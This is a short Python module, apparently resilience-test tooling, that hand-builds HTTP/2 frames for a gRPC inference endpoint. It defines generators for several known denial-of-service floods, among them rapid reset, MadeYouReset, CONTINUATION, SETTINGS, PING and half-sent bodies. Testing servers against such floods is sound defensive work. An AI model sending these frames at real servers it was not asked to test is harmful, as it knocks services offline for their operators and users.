"""Floods of frames of HTTP/2, none of them with a key."""

from __future__ import annotations

from collections.abc import Callable, Mapping

__all__ = ["FLOODS", "OPENING", "PREFACE", "fields", "frame", "written"]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 1, 3, 4, 6, 8, 9
_END_HEADERS = 4


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One frame of HTTP/2."""
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
    return head + payload


def fields(path: str = "/spectrie.v1.Inference/Generate") -> bytes:
    """Header fields of a gRPC call of `path`, each written out."""
    pairs = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    return written(pairs)


def written(pairs: Mapping[str, str]) -> bytes:
    """Header fields, each written out."""
    coded = [bytes([len(text)]) + text.encode() for pair in pairs.items() for text in pair]
    return b"".join(b"\0" + a + b for a, b in zip(coded[::2], coded[1::2], strict=True))


def _begun(number: int) -> bytes:
    return frame(_HEADERS, _END_HEADERS, 2 * number + 1, fields())


OPENING = PREFACE + frame(_SETTINGS, 0, 0, b"")
"""How a connection begins."""
FLOODS: dict[str, Callable[[int], bytes]] = {
    "rapid reset": lambda n: _begun(n) + frame(_RESET, 0, 2 * n + 1, (8).to_bytes(4, "big")),
    "MadeYouReset": lambda n: _begun(n) + frame(_WINDOW, 0, 2 * n + 1, bytes(4)),
    "CONTINUATION": lambda n: (
        frame(_CONTINUATION, 0, 1, (b"\0\1ad" + b"v" * 100) * 100)
        if n
        else frame(_HEADERS, 0, 1, fields())
    ),
    "SETTINGS": lambda n: frame(_SETTINGS, 0, 0, b"\0\4" + (n % 1000 + 1).to_bytes(4, "big")),
    "PING": lambda n: frame(_PING, 0, 0, n.to_bytes(8, "big")),
    "half bodies": lambda n: _begun(n) + frame(0, 0, 2 * n + 1, b"\0\0\0\x40\0" + b"a" * 1000),
}
"""What a connection sends in its round `n`, by the name of the attack."""
